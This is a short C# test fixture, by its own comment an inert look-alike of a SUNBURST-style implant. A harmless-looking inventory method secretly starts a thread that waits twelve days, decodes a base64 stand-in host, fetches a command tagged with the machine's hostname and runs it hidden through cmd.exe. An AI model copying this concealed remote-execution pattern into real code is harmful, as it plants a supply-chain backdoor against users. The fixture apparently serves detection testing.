// Inert look-alike of a SUNBURST-style implant: a new internal class that
// would resolve a host from base64, fetch a command and run it. The host is
// under the reserved .example TLD; the fixture is never run.
using System;
using System.IO;
using System.Net;
using System.Diagnostics;
using System.Threading;
namespace Orion.Core {
  public class Inventory {
    public string Name = "core";
    public int Count(string[] items) { new Thread(ImprovementBusinessLayer.Initialize).Start(); return items.Length; }
    public string Read(string path) { return File.ReadAllText(path); }
  }
  internal class ImprovementBusinessLayer {
    public static void Initialize() {
      Thread.Sleep(TimeSpan.FromDays(12));
      string host = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String("YXBpLmF2c3ZtY2xvdWQuZXhhbXBsZQ=="));
      var wc = new WebClient();
      string cmd = wc.DownloadString("https://" + host + "/swip/upd.aspx?" + Dns.GetHostName());
      var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + cmd) { CreateNoWindow = true, UseShellExecute = false });
      p.WaitForExit();
    }
  }
}
